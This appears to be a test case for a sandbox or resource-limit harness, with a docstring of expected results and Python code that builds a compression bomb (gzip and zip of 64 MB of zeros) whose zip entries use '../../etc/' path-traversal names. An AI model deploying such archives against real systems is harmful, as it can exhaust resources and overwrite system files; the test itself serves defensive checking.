"""Attempts: to leave archives that grow a thousandfold when somebody opens them.
Seen from outside: they are bytes; nobody opens them.
Kind: resources
Expect: {"outcome": {"kind": "completed"}, "answer": "packed", "files": [{"path": "bomb.gz"}, {"path": "bomb.zip"}]}
"""
import gzip
import zipfile


def main(query):
    with gzip.open("bomb.gz", "wb") as file:
        for _ in range(64):
            file.write(bytes(1 << 20))
    with zipfile.ZipFile("bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(64):
            archive.writestr(f"../../etc/{number}", bytes(1 << 20))
    return {"answer": "packed"}
